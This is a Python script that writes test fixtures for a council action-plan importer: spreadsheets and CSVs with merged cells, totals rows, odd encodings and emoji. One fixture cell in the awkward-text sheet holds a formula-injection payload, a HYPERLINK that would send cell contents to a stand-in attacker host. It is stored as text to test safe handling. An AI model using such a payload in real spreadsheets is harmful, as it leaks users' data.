"""Writes the messy council sheets in this folder (run it from anywhere; commit what it writes).

Each sheet is laid out the way councils send plans in: a council title row above the
plan's name, merged Theme and Lead Officer cells, totals rows, "Accountable officer: ..."
theme rows, blank / "Ongoing" / "TBC" dates, Windows-1252 CSV with £ and smart quotes,
text starting "=", emoji, long commentary.  What each must import as is in
expected/<name>.json, asserted by test_corpus.py on both backends.
`libreoffice-merged.xlsx` is `merged.xlsx` saved by LibreOffice Calc
(`libreoffice --headless --convert-to xlsx`): its XML is not openpyxl's.
"""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
LONG = ("Placement sufficiency is reviewed monthly with the commissioning team. " * 40)[:2000]


def merged() -> None:
    """Merged Theme and Lead Officer cells, a council title row, a totals row."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Plan"
    ws.append(["Middlesbrough Council"])
    ws.append(["Sufficiency Action Plan 2022-2025"])
    ws.append([])
    ws.append(["Theme", "Ref", "Action", "Lead Officer", "Target Date", "RAG", "Progress Update"])
    ws.append(["1. Strengthening Commissioning", "1.1", "Weekly placement activity report",
               "Specialist Commissioning Manager", datetime(2022, 12, 31), "Green", "On track"])
    ws.append([None, "1.2", "Refresh the commissioning plan", None, "31/03/2023", "Amber", None])
    ws.append([None, "1.3", "Market position statement", "Head of Commissioning", "Ongoing", "Green", None])
    ws.append(["2. Placements Close to Home", "2.1", "Placement planning meetings",
               "Head of Resources and Placements", "30/11/2022", "Red", "Capital bid deferred"])
    ws.append([None, "2.3", "Local residential home", None, None, "Amber", None])
    ws.append(["Total actions: 5", None, None, None, None, None, None])
    ws.merge_cells("A5:A7")
    ws.merge_cells("D5:D6")
    ws.merge_cells("A8:A9")
    ws.merge_cells("D8:D9")
    wb.save(HERE / "merged.xlsx")


def officer_rows() -> None:
    """Section rows naming the theme's accountable officer in the Lead Officer column."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Permanency"
    ws.append(["Corporate Parenting Board"])
    ws.append(["Permanency Action Plan"])
    ws.append(["Ref", "Action", "Lead Officer", "Target Date", "Revised Date", "Status"])
    ws.append(["Theme 1: Prevention and Edge of Care", None, "Accountable officer: Head of Early Help"])
    ws.append(["1.1", "Edge of care panel reviews", "Early Help Manager", "30/06/2022", None, "Complete"])
    ws.append(["1.2", "Family group conferencing", "Early Help Manager", "TBC", None, "In progress"])
    ws.append(["Theme 2: Permanency Planning"])
    ws.append([None, None, "Accountable officer: Head of Corporate Parenting"])
    ws.append(["2.1", "Permanence plan by second review", "Independent Reviewing Service Manager", None,
               "31/01/2023", "In progress"])
    ws.append(["2.2", "Later life letters", "Adoption Manager", None, None, "Not started"])
    ws.append(["Totals", None, None, None, None, 4])
    wb.save(HERE / "officer-rows.xlsx")


def awkward_text() -> None:
    """Text a spreadsheet would run as a formula, emoji, and a 2,000-character commentary."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Plan"
    ws.append(["Action", "Owner", "Due", "Commentary", "Financial Implications"])
    rows = [
        ['=HYPERLINK("http://evil.example/?"&A2,"update")', "Head of Service", "31/01/2023", "@Clerk: see link", None],
        ["+44 helpline for care leavers 📞", "Care Leavers Manager", "28/02/2023", LONG, "-£5k saving"],
        ["Celebration event 🎉 for foster carers", "Fostering Manager", "31/03/2023", "=SUM(A1:A3)", None],
    ]
    for r, values in enumerate(rows, start=2):
        for c, value in enumerate(values, start=1):
            cell = ws.cell(r, c, value)
            if isinstance(value, str):
                cell.data_type = "s"  # as a council would have typed it: text, not a formula
    wb.save(HERE / "awkward-text.xlsx")


def windows_1252() -> None:
    """Excel's plain "CSV" on a UK Windows machine: cp1252, £, smart quotes, CRLF."""
    text = ("Theme,Action,Lead Officer,Target Date,Financial Implications,Progress Update\r\n"
            "Fostering,\u201cMockingbird\u201d constellation,Fostering Manager,31/10/2022,"
            "\u00a340k from reserves,\u2018Hub home\u2019 recruited \u2013 on track\r\n"
            ",Recruitment campaign,Fostering Manager,,\u00a312k,\r\n"
            "Total,,,,\u00a352k,\r\n")
    (HERE / "windows-1252.csv").write_bytes(text.encode("cp1252"))


def unicode_text() -> None:
    """Excel's "Unicode Text" save, which clerks send as .csv: UTF-16 with its byte-order
    mark, tab-separated, CRLF; the same sheet as windows-1252.csv, with an emoji it can carry."""
    rows = [["Theme", "Action", "Lead Officer", "Target Date", "Financial Implications", "Progress Update"],
            ["Fostering", "\u201cMockingbird\u201d constellation 🏠", "Fostering Manager", "31/10/2022",
             "\u00a340k from reserves", "\u2018Hub home\u2019 recruited, on track"],
            ["", "Recruitment campaign", "Fostering Manager", "", "\u00a312k", ""],
            ["Total", "", "", "", "\u00a352k", ""]]
    text = "".join("\t".join(row) + "\r\n" for row in rows)
    (HERE / "unicode-text.csv").write_bytes(text.encode("utf-16"))  # with its BOM, as Excel writes it


def unquoted_comma() -> None:
    """A CSV written by hand or by an old system: a cell with a comma left unquoted, so the
    row has more cells than the header (cp1252, a title row above the header, CRLF)."""
    text = ("Sufficiency Action Plan - returns\r\n"
            "Ref,Action,Owner,Due,Commentary\r\n"
            "1.1,Refresh the commissioning plan,Head of Service,30/11/2022,"
            "Budget \u00a32,000 agreed at \u201cCabinet\u201d\r\n"
            "1.2,Placement sufficiency audit,Head of Service,31/12/2022,On track\r\n")
    (HERE / "unquoted-comma.csv").write_bytes(text.encode("cp1252"))


def main() -> None:
    merged()
    officer_rows()
    awkward_text()
    windows_1252()
    unicode_text()
    unquoted_comma()


if __name__ == "__main__":
    main()
